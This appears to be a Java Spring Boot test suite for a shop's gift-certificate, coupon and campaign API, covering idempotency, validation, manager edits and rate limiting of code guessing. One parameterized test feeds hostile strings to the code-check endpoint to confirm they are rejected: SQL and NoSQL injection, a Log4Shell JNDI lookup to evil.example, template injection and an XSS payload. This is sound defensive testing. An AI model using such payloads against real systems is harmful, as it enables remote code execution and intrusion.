package orderdesk.promo.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.patch;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;

import java.time.Instant;
import java.util.Collections;
import java.util.Comparator;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import orderdesk.contracts.benefit.BenefitEvent.CouponIssued;
import orderdesk.contracts.benefit.BenefitEvent.GuessingSuspected;
import orderdesk.contracts.shared.Wire;
import orderdesk.platform.access.Role;
import orderdesk.platform.simulator.SimulatedStore;
import orderdesk.platform.testing.Http;
import orderdesk.platform.testing.Tokens;
import orderdesk.promo.Orders;
import orderdesk.wire.PromoWeb;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.web.context.WebApplicationContext;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

@SpringBootTest(classes = PromoWeb.class)
class PromoApiTests {

    private static final String MANAGER = "manager";

    @Autowired
    private WebApplicationContext context;

    @Autowired
    private SimulatedStore store;

    private MockMvc http;

    @BeforeEach
    void connect() {
        http = Http.of(context);
    }

    @Test
    void codeIsShownToItsRequestOnlyAndStoredNowhere() throws Exception {
        var key = key();
        var first = create("/v1/certificates", key, Examples.CERTIFICATE);
        var again = create("/v1/certificates", key, Examples.CERTIFICATE);
        var other = create("/v1/certificates", key, Examples.CERTIFICATE.replace("300000", "300001"));

        assertThat(first.getStatus()).isEqualTo(201);
        assertThat(again.getContentAsString()).isEqualTo(first.getContentAsString());
        assertThat(again.getHeader("Idempotency-Replayed")).isEqualTo("true");
        assertThat(other.getStatus()).isEqualTo(422);
        var code = json(first).get("code").asString();
        assertThat(code).matches("[0-9A-HJKMNP-TV-Z]{4}(-[0-9A-HJKMNP-TV-Z]{4}){2}");
        assertThat(store.contents().toString())
                .doesNotContain(code)
                .doesNotContain(code.replace("-", ""))
                .doesNotContain(Orders.CODES.hidden(code).keyedHash());
    }

    @Test
    void batchIsAFileOfDifferentCodesAndTheSameFileAgain() throws Exception {
        var key = key();
        var body = Examples.BATCH.replace("100,", "30,").replace("Новый год", "Партия " + key);

        var file = create("/v1/certificates/batches", key, body);

        assertThat(file.getStatus()).isEqualTo(201);
        assertThat(file.getContentType()).startsWith("text/csv");
        var lines = List.of(file.getContentAsString().split("\r\n"));
        assertThat(lines).hasSize(31).startsWith("code,id,minor,currency,validUntil");
        assertThat(new HashSet<>(lines)).hasSize(31);
        assertThat(create("/v1/certificates/batches", key, body).getContentAsString())
                .isEqualTo(file.getContentAsString());
        var listed = json(call(get("/v1/certificates?shop=tribuna&limit=20").queryParam("batch", "Партия " + key)));
        assertThat(listed.get("items")).hasSize(20);
        var rest = json(call(get("/v1/certificates?shop=tribuna&limit=20")
                .queryParam("batch", "Партия " + key)
                .queryParam("cursor", listed.get("nextCursor").asString())));
        assertThat(rest.get("items")).hasSize(10);
        var both = Stream.of(listed, rest)
                .flatMap(page -> page.get("items").valueStream())
                .toList();
        assertThat(both.stream().map(each -> each.get("id").asString())).doesNotHaveDuplicates();
        assertThat(both.stream().map(each -> Instant.parse(each.get("issuedAt").asString())))
                .isSortedAccordingTo(Comparator.reverseOrder());
    }

    @Test
    void managersExtendBlockAndExpireWhatTheyHaveRead() throws Exception {
        var issued =
                json(create("/v1/certificates", key(), Examples.CERTIFICATE)).get("certificate");
        var path = "/v1/certificates/" + issued.get("id").asString();

        var blocked = change(path, "\"r1\"", "{\"blocked\":true,\"reason\":\"Украден\"}");
        var stale = change(path, "\"r1\"", Examples.CHANGE);
        var extended = change(path, "\"r2\"", Examples.CHANGE);
        var released = change(path, "\"r3\"", "{\"blocked\":false,\"reason\":\"Нашёлся\"}");
        var expired = change(path, "\"r4\"", "{\"expire\":true,\"reason\":\"По письму покупателя\"}");
        var past = change(path, "\"r5\"", "{\"validUntil\":\"2020-01-01T00:00:00Z\",\"reason\":\"Ошибка\"}");

        assertThat(json(blocked).get("blocked").asBoolean()).isTrue();
        assertThat(stale.getStatus()).isEqualTo(412);
        assertThat(json(extended).get("validUntil").asString()).isEqualTo("2027-06-30T21:00:00Z");
        assertThat(json(released).get("blocked").asBoolean()).isFalse();
        assertThat(json(expired).get("validUntil").asString()).isEqualTo("2026-11-20T12:00:00Z");
        assertThat(past.getStatus()).isEqualTo(422);
        assertThat(json(call(get(path + "/history?shop=tribuna"))).get("entries"))
                .extracting(entry -> entry.get("event").get("type").asString().split("\\.")[1])
                .startsWith("certificate-issued")
                .endsWith(Collections.nCopies(4, "certificate-changed").toArray(String[]::new))
                .hasSize(5);
    }

    @Test
    void couponIsIssuedAndAnnouncedWithoutItsCode() throws Exception {
        var issued = json(create("/v1/coupons", key(), Examples.COUPON));

        assertThat(store.events(CouponIssued.class))
                .anySatisfy(event -> assertThat(event.certificateId())
                        .isEqualTo(issued.get("certificate").get("id").asString()));
        var checked =
                json(check("{\"code\":\"%s\"}".formatted(issued.get("code").asString()), operator()));
        assertThat(checked.get("kind").asString()).isEqualTo("coupon");
    }

    @Test
    void campaignHasACodeOfItsOwnAndChangesByItsTag() throws Exception {
        var body = Examples.CAMPAIGN.replace("ЗИМА-2027", key());
        var planned = create("/v1/campaigns", key(), body);
        var taken = create("/v1/campaigns", key(), body);
        var path = String.valueOf(planned.getHeader("Location"));
        var stopped = call(put(path + "?shop=tribuna")
                .header("If-Match", "\"r1\"")
                .contentType(MediaType.APPLICATION_JSON)
                .content(Examples.CAMPAIGN_CHANGE));

        assertThat(planned.getStatus()).isEqualTo(201);
        assertThat(taken.getStatus()).isEqualTo(409);
        assertThat(json(taken).get("code").asString()).isEqualTo("code-taken");
        assertThat(json(stopped).get("stopped").asBoolean()).isTrue();
        assertThat(json(stopped).get("version").asInt()).isEqualTo(2);
        assertThat(json(call(get("/v1/campaigns?shop=tribuna"))).get("items")).isNotEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "'\"basisPoints\": 1000', '\"basisPoints\": 10001', /rules/worth/basisPoints",
        "'\"basisPoints\": 1000', '\"basisPoints\": 0', /rules/worth/basisPoints",
        "'1000000', '1000001', /rules/usesMax",
        "'2027-03-01', '2026-12-01', /rules/to",
        "'\"RUB\"', '\"USD\"', /rules/minimum",
        "'\"TR-\"', '\"\"', /rules/skuPrefixes",
        "'\"vendors\": []', '\"vendors\": [\" \"]', /rules/vendors",
        "'Зимние скидки', ' ', /rules/name",
        "'ЗИМА-2027', 'a-b', /code"
    })
    void whatIsWrongWithACampaignIsNamed(String right, String wrong, String pointer) throws Exception {
        var refused = create("/v1/campaigns", key(), Examples.CAMPAIGN.replace(right, wrong));

        assertThat(refused.getStatus()).isEqualTo(422);
        assertThat(json(refused).get("errors").get(0).get("pointer").asString()).isEqualTo(pointer);
    }

    @ParameterizedTest
    @CsvSource({"100000000, 201", "100000001, 422", "1, 201", "0, 422"})
    void faceHasBounds(long minor, int status) throws Exception {
        var body = Examples.CERTIFICATE.replace("300000", String.valueOf(minor));

        assertThat(create("/v1/certificates", key(), body).getStatus()).isEqualTo(status);
    }

    @ParameterizedTest
    @CsvSource({"0", "10001"})
    void batchHasBounds(int count) throws Exception {
        var body = Examples.BATCH.replace("100,", count + ",");

        assertThat(create("/v1/certificates/batches", key(), body).getStatus()).isEqualTo(422);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "AB-1",
                "' OR 1=1 --",
                "{\"$ne\": null}",
                "${jndi:ldap://evil.example/a}",
                "{{certificate.code}}",
                "<img src=x onerror=alert(1)>",
                "ABCD\u202eEFGH",
                "ABCD\u0000EFGH"
            })
    void hostileCodesAreLookedForNowhere(String code) throws Exception {
        var body = Wire.mapper().writeValueAsString(Map.of("code", code));

        assertThat(check(body, operator()).getStatus()).isIn(400, 422);
        assertThat(check("{\"code\":\"%s\"}".formatted("A".repeat(65)), operator())
                        .getStatus())
                .isEqualTo(422);
        assertThat(check("{\"code\":\"%s\"}".formatted("A".repeat(64)), operator())
                        .getStatus())
                .isEqualTo(200);
    }

    @Test
    void whoGuessesWaitsAndSomebodyIsTold() throws Exception {
        var visitor = "v" + key();
        var body = "{\"code\":\"0000-0000-0001\",\"visitor\":\"%s\"}".formatted(visitor);
        for (var miss = 0; miss < CodesController.MISSES_MAX; miss++) {
            assertThat(check(body, storefront()).getStatus()).isEqualTo(200);
        }

        var refused = check(body, storefront());

        assertThat(refused.getStatus()).isEqualTo(429);
        assertThat(refused.getHeader("Retry-After")).isEqualTo("600");
        assertThat(check(body.replace(visitor, "another"), storefront()).getStatus())
                .isEqualTo(200);
        assertThat(store.events(GuessingSuspected.class))
                .filteredOn(event -> event.who().endsWith(visitor))
                .hasSize(1);
    }

    private String storefront() {
        return Tokens.of(context).of("site", "tribuna", Role.STOREFRONT);
    }

    private String operator() {
        return Tokens.of(context).of("anna" + key(), "tribuna", Role.OPERATOR);
    }

    private MockHttpServletResponse check(String body, String token) throws Exception {
        return http.perform(post("/v1/codes/check")
                        .header("Authorization", token)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(body))
                .andReturn()
                .getResponse();
    }

    private MockHttpServletResponse change(String path, String tag, String body) throws Exception {
        return call(patch(path + "?shop=tribuna")
                .header("If-Match", tag)
                .contentType(MediaType.APPLICATION_JSON)
                .content(body));
    }

    private MockHttpServletResponse create(String path, String key, String body) throws Exception {
        return call(post(path + "?shop=tribuna")
                .header("Idempotency-Key", key)
                .contentType(MediaType.APPLICATION_JSON)
                .content(body));
    }

    private MockHttpServletResponse call(MockHttpServletRequestBuilder request) throws Exception {
        var manager = Tokens.of(context).of(MANAGER, List.of("tribuna", "chasy"), Role.MANAGER);
        var answer = http.perform(request.header("Authorization", manager))
                .andReturn()
                .getResponse();
        answer.setCharacterEncoding("UTF-8");
        return answer;
    }

    private static String key() {
        return UUID.randomUUID().toString();
    }

    private static JsonNode json(MockHttpServletResponse answer) throws Exception {
        return JsonMapper.shared().readTree(answer.getContentAsByteArray());
    }
}
